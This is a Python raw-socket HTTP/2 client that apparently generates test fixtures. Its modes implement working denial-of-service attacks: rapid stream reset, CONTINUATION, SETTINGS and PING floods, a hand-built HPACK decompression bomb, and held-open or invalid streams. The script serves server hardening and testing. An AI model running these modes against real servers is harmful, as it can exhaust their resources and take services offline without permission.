"""A raw-socket HTTP/2 client (prior knowledge, cleartext) for scripts/make-h2-fixtures.sh:
frames are written by hand with struct, header blocks HPACK-encoded with the hpack package
(installed with h2; h2 4.1.0 / hpack 4.0 made the fixtures). It talks only to the address
it is given.

    h2_attack.py MODE HOST PORT [COUNT]

Every mode sends the preface and SETTINGS, reads the server's SETTINGS and acknowledges it.
  normal              COUNT (20) GETs of /api/users, one at a time: each waits for its answer
  rapid-reset         COUNT (200) times HEADERS (END_STREAM|END_HEADERS) immediately followed by
                      RST_STREAM(CANCEL) on the same stream, then reads what comes back
  continuation-flood  HEADERS without END_HEADERS, then COUNT (300) CONTINUATION frames, each
                      one small literal header field, never ending the block
  settings-flood      COUNT (500) SETTINGS frames in one write
  ping-flood          COUNT (500) PING frames in one write
  hpack-bomb          a GET of /api/users whose header block adds x-pad (a 4000-byte value) to
                      the server's HPACK dynamic table (literal with incremental indexing; entry
                      size 5 + 4000 + 32 = 4037 fits the default 4096), answered; then COUNT (10)
                      GETs, one write each without waiting, each block the four pseudo-headers
                      plus 200 times 0xBE (indexed field 62, that entry): 230 bytes that
                      decode to about 800 KB. These blocks are written by hand, not with hpack
  stream-abuse        COUNT (300) HEADERS of POST /api/items (END_HEADERS, no END_STREAM: each
                      stream waits for a body that never comes) on streams 1, 3, 5, ... in one
                      write; then a HEADERS on stream 2 (even: a client may not use it) and one
                      reusing stream 1
Every mode then reads until the server closes or is quiet for a second; all but
continuation-flood end with GOAWAY(NO_ERROR) before closing when the server has not closed.
"""
import socket
import struct
import sys
import time

import hpack

DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 7, 8, 9
END_STREAM, ACK, END_HEADERS = 0x1, 0x1, 0x4
CANCEL = 0x8
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
NAMES = {0: "DATA", 1: "HEADERS", 2: "PRIORITY", 3: "RST_STREAM", 4: "SETTINGS", 5: "PUSH_PROMISE",
         6: "PING", 7: "GOAWAY", 8: "WINDOW_UPDATE", 9: "CONTINUATION"}

mode, host, port = sys.argv[1], sys.argv[2], int(sys.argv[3])
default = {"normal": 20, "rapid-reset": 200, "continuation-flood": 300, "settings-flood": 500, "ping-flood": 500,
           "hpack-bomb": 10, "stream-abuse": 300}
if mode not in default:
    sys.exit(f"unknown mode {mode}; one of {', '.join(default)}")
count = int(sys.argv[4]) if len(sys.argv) > 4 else default[mode]


def frame(ftype, flags, sid, payload=b""):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", ftype, flags, sid & 0x7FFFFFFF) + payload


class Conn:
    def __init__(self):
        self.s = socket.create_connection((host, port), timeout=5)
        self.s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.buf = b""
        self.closed = False
        self.goaway = None
        self.counts = {}
        self.ended = set()   # streams the server ended
        self.unacked = 0     # DATA bytes not yet given back in WINDOW_UPDATE

    def send(self, data):
        self.s.sendall(data)

    def try_send(self, data):
        """send, but False when the server has already reset or closed (what it sent before
        is still read by drain)."""
        try:
            self.s.sendall(data)
            return True
        except OSError:
            return False

    def read_frame(self, timeout):
        """One frame, or None when nothing comes in `timeout` seconds or the peer closed."""
        deadline = time.monotonic() + timeout
        while len(self.buf) < 9 or len(self.buf) < 9 + int.from_bytes(self.buf[:3], "big"):
            left = deadline - time.monotonic()
            if left <= 0 or self.closed:
                return None
            self.s.settimeout(left)
            try:
                chunk = self.s.recv(65536)
            except socket.timeout:
                return None
            except ConnectionResetError:
                chunk = b""
            if not chunk:
                self.closed = True
                return None
            self.buf += chunk
        n = int.from_bytes(self.buf[:3], "big")
        ftype, flags, sid = struct.unpack(">BBI", self.buf[3:9])
        payload, self.buf = self.buf[9:9 + n], self.buf[9 + n:]
        return self.handle(ftype, flags, sid & 0x7FFFFFFF, payload)

    def handle(self, ftype, flags, sid, payload):
        name = NAMES.get(ftype, str(ftype))
        self.counts[name] = self.counts.get(name, 0) + 1
        if ftype == SETTINGS and not flags & ACK:
            self.send(frame(SETTINGS, ACK, 0))
        elif ftype == PING and not flags & ACK:
            self.send(frame(PING, ACK, 0, payload))
        elif ftype == GOAWAY:
            last, code = struct.unpack(">II", payload[:8])
            self.goaway = (last & 0x7FFFFFFF, code)
        elif ftype == DATA and payload:
            self.unacked += len(payload)
            if self.unacked >= 32768:
                self.send(frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", self.unacked)))
                self.unacked = 0
        if ftype in (DATA, HEADERS) and flags & END_STREAM:
            self.ended.add(sid)
        return ftype, flags, sid, payload

    def drain(self, quiet=1.0):
        while self.read_frame(quiet) is not None:
            pass


def request_block(enc, path="/api/users"):
    return enc.encode([(":method", "GET"), (":scheme", "http"), (":path", path),
                       (":authority", f"{host}:{port}"), ("user-agent", "h2-fixture-client/1"),
                       ("accept", "application/json")])


def hint(n, prefix, first=0):
    """An HPACK integer with an N-bit prefix, `first` holding the bits above it (RFC 7541 5.1)."""
    top = (1 << prefix) - 1
    if n < top:
        return bytes([first | n])
    out, n = [first | top], n - top
    while n >= 128:
        out.append(n % 128 | 0x80)
        n //= 128
    return bytes(out + [n])


def hstr(b):
    """An HPACK string literal without Huffman."""
    return hint(len(b), 7) + b


def pseudo(method, path):
    """:method (static 2 GET, 3 POST), :scheme http (static 6), :path and :authority as literals
    without indexing with static names 4 and 1: adds nothing to the dynamic table."""
    return (b"\x82" if method == "GET" else b"\x83") + b"\x86" + hint(4, 4) + hstr(path.encode()) \
        + hint(1, 4) + hstr(f"{host}:{port}".encode())


def literal(name, value):
    """A literal header field without indexing, new name, no Huffman (RFC 7541 6.2.2)."""
    return b"\x00" + bytes([len(name)]) + name + bytes([len(value)]) + value


c = Conn()
# Preface, SETTINGS (no push, 100 streams, 64 KiB - 1 window), then the server's SETTINGS.
c.send(PREFACE + frame(SETTINGS, 0, 0, struct.pack(">HIHI", 0x2, 0, 0x3, 100)))
while True:
    f = c.read_frame(5)
    if f is None:
        sys.exit("no SETTINGS from the server")
    if f[0] == SETTINGS and not f[1] & ACK:
        break
enc = hpack.Encoder()

if mode == "normal":
    for i in range(count):
        sid = 2 * i + 1
        c.send(frame(HEADERS, END_STREAM | END_HEADERS, sid, request_block(enc)))
        while sid not in c.ended:
            if c.read_frame(5) is None:
                sys.exit(f"stream {sid}: no answer")
elif mode == "rapid-reset":
    for i in range(count):
        sid = 2 * i + 1
        c.send(frame(HEADERS, END_STREAM | END_HEADERS, sid, request_block(enc))
               + frame(RST_STREAM, 0, sid, struct.pack(">I", CANCEL)))
elif mode == "continuation-flood":
    c.send(frame(HEADERS, END_STREAM, 1, request_block(enc)))
    for i in range(count):
        c.send(frame(CONTINUATION, 0, 1, literal(b"x-flood-%03d" % i, b"a" * 16)))
elif mode == "settings-flood":
    c.send(b"".join(frame(SETTINGS, 0, 0, struct.pack(">HI", 0x4, 65535)) for _ in range(count)))
elif mode == "ping-flood":
    c.send(b"".join(frame(PING, 0, 0, struct.pack(">Q", i)) for i in range(count)))
elif mode == "hpack-bomb":
    # Literal with incremental indexing, new name (0x40): x-pad enters the dynamic table at 62.
    pad = b"\x40" + hstr(b"x-pad") + hstr(b"p" * 4000)
    c.send(frame(HEADERS, END_STREAM | END_HEADERS, 1, pseudo("GET", "/api/users") + pad))
    while 1 not in c.ended:
        if c.read_frame(5) is None:
            sys.exit("stream 1: no answer")
    bomb = pseudo("GET", "/api/users") + b"\xbe" * 200
    for i in range(count):
        if not c.try_send(frame(HEADERS, END_STREAM | END_HEADERS, 2 * i + 3, bomb)):
            break
elif mode == "stream-abuse":
    post = [(":method", "POST"), (":scheme", "http"), (":path", "/api/items"),
            (":authority", f"{host}:{port}"), ("user-agent", "h2-fixture-client/1"),
            ("content-type", "application/json"), ("content-length", "16")]
    c.send(b"".join(frame(HEADERS, END_HEADERS, 2 * i + 1, enc.encode(post)) for i in range(count)))
    if c.try_send(frame(HEADERS, END_STREAM | END_HEADERS, 2, request_block(enc))):
        c.try_send(frame(HEADERS, END_STREAM | END_HEADERS, 1, request_block(enc)))

c.drain()
if not c.closed and mode != "continuation-flood":
    try:
        c.send(frame(GOAWAY, 0, 0, struct.pack(">II", 0, 0)))
        c.drain(0.3)
    except OSError:
        pass
c.s.close()
print(f"{mode} {count}: server sent {c.counts}; goaway {c.goaway}; "
      f"{'closed by server' if c.closed else 'closed by client'}", file=sys.stderr)
